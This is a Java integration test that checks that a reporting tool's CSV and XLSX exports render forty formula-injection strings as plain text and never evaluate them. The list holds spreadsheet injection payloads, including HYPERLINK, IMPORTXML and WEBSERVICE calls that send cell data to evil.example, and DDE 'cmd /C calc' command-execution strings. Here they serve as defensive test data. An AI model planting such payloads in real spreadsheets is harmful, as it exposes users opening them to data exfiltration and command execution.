package io.countersign.verification.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;

import io.countersign.report.Reports;
import io.countersign.report.format.Project;
import io.countersign.report.format.Visible;
import io.countersign.report.sample.HostileRelease;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Forty texts that a spreadsheet takes for formulas, wherever a text can come from outside. */
class FormulasIT {

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=2+3",
            "= 1+1",
            "=SUM(1;2)",
            "=\"a\"&\"b\"",
            "=A1",
            "=A1+B2",
            "=NOW()",
            "=TODAY()",
            "=RAND()",
            "=PI()*2",
            "=IF(1=1;\"yes\";\"no\")",
            "=CONCATENATE(A1;B1)",
            "=HYPERLINK(\"http://evil.example?x=\"&A1;\"click\")",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
            "=WEBSERVICE(\"http://evil.example\")",
            "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
            "=cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=INDIRECT(\"A1\")",
            "=INFO(\"osversion\")",
            "=CELL(\"filename\")",
            "={1;2;3}",
            "==1+1",
            "=-1",
            "=+1",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "+SUM(1;2)",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "-SUM(1;2)",
            "@SUM(1+1)",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\uff1d1+1",
            "\uff0b1+1",
            "\uff20SUM(1+1)");

    @TempDir
    private Path folder;

    @Test
    void areForty() {
        assertThat(FORMULAS).hasSize(40).doesNotHaveDuplicates();
    }

    /** Otherwise nothing would be evaluated in the tests below, whatever stood in the tables. */
    @Test
    void areEvaluatedByTheSpreadsheetWhereNobodyGuardsAgainstThem() throws Exception {
        Path unguarded = Files.writeString(folder.resolve("unguarded.csv"), "=1+1,\"=2+3\",text\r\n");

        assertThat(Office.in(folder).open(unguarded))
                .extracting(Office.Cell::text)
                .contains("2", "5", "text")
                .doesNotContain("=1+1");
    }

    @Test
    void areShownAsTextInTheTablesAndEvaluatedInNone() throws Exception {
        Office office = Office.in(folder);
        List<Office.Cell> cells = new ArrayList<>();
        for (Path table : tables(folder.resolve("report"))) {
            cells.addAll(office.open(table));
        }

        assertThat(cells).extracting(Office.Cell::formula).containsOnly("");
        assertThat(cells)
                .extracting(cell -> cell.text().replaceFirst("^'", ""))
                .containsAll(FORMULAS.stream()
                        .filter(text -> text.startsWith("=") || text.startsWith("+") || text.startsWith("-"))
                        .map(Visible::text)
                        .toList());
    }

    private static List<Path> tables(Path report) throws IOException {
        Reports.write(HostileRelease.filledWithEach(FORMULAS), Project.at(report), report, List.of("csv", "xlsx"));
        try (Stream<Path> files = Files.walk(report)) {
            List<Path> tables = files.filter(Files::isRegularFile)
                    .filter(file -> file.toString().matches(".*\\.(csv|xlsx)"))
                    .sorted()
                    .toList();
            assertThat(tables).hasSizeGreaterThan(3);
            return tables;
        }
    }
}
